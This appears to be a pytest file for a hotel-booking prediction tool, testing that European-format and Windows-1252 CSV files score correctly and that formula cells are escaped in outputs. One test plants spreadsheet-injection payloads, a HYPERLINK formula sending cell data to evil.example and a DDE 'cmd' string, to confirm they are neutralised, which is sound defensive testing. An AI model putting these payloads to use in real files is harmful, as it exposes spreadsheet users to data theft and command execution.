"""``predict-batch`` on files as hotels' systems write them, and outputs safe to open in a spreadsheet."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from data_engineering.src.synthetic import make_bookings, write_european

PREDICT = "data_science.predict_batch"


def _read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.fixture
def bookings() -> pd.DataFrame:
    frame = make_bookings(200, seed=31).drop(columns=["reservation_status", "reservation_status_date"])
    frame.insert(0, "guest", [f"Guest {i}" for i in range(len(frame))])  # a hotel's own column
    return frame


def test_a_semicolon_file_with_decimal_commas_scores_as_the_plain_file(
    trained_workspace, bookings: pd.DataFrame, tmp_path: Path, run_module
) -> None:
    plain = tmp_path / "plain.csv"
    bookings.to_csv(plain, index=False)
    european = write_european(tmp_path / "european.csv", bookings)
    assert (
        run_module(
            PREDICT, str(plain), str(tmp_path / "plain.out.csv"), env=trained_workspace.env()
        ).returncode
        == 0
    )
    result = run_module(
        PREDICT, str(european), str(tmp_path / "european.out.csv"), env=trained_workspace.env()
    )
    assert result.returncode == 0, result.stderr
    assert f"reading {european}: semicolon-separated, decimal comma, UTF-8" in result.stderr
    assert "200 rows in, 200 scored" in result.stdout
    pd.testing.assert_frame_equal(_read(tmp_path / "european.out.csv"), _read(tmp_path / "plain.out.csv"))


def test_a_windows_1252_file_is_scored_and_its_accents_kept(
    trained_workspace, bookings: pd.DataFrame, tmp_path: Path, run_module
) -> None:
    bookings.loc[3, "guest"] = "José Müller"
    bookings.loc[5, "country"] = "Côte d’Ivoire"  # not a country code: rejected, and shown as written
    path = tmp_path / "export.csv"
    bookings.to_csv(path, index=False, encoding="cp1252")
    result = run_module(PREDICT, str(path), str(tmp_path / "out.csv"), env=trained_workspace.env())
    assert result.returncode == 0, result.stderr
    assert f"reading {path}: comma-separated, Windows-1252" in result.stderr
    assert "200 rows in, 199 scored" in result.stdout
    scored = _read(tmp_path / "out.csv")  # written in UTF-8
    assert scored.loc[3, "guest"] == "José Müller"
    rejected = _read(tmp_path / "out.csv.rejected.csv")
    assert rejected[["source_line", "country"]].values.tolist() == [["7", "Côte d’Ivoire"]]
    assert str(rejected.loc[0, "rejection_reasons"]).startswith("country: ")


def test_cells_that_would_run_as_formulas_are_neutralised_in_both_outputs(
    trained_workspace, bookings: pd.DataFrame, tmp_path: Path, run_module
) -> None:
    bookings.loc[0, "guest"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    bookings.loc[1, "guest"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    bookings.loc[2, ["guest", "adults"]] = ["+33 6 12 34 56 78", "-2"]  # rejected: adults < 0
    path = tmp_path / "in.csv"
    bookings.to_csv(path, index=False)
    result = run_module(PREDICT, str(path), str(tmp_path / "out.csv"), env=trained_workspace.env())
    assert result.returncode == 0, result.stderr
    scored = _read(tmp_path / "out.csv")
    assert scored.loc[:1, "guest"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    rejected = _read(tmp_path / "out.csv.rejected.csv")
    assert rejected.loc[0, "guest"] == "'+33 6 12 34 56 78"
    assert rejected.loc[0, "adults"] == "-2"  # a number is data, not a formula
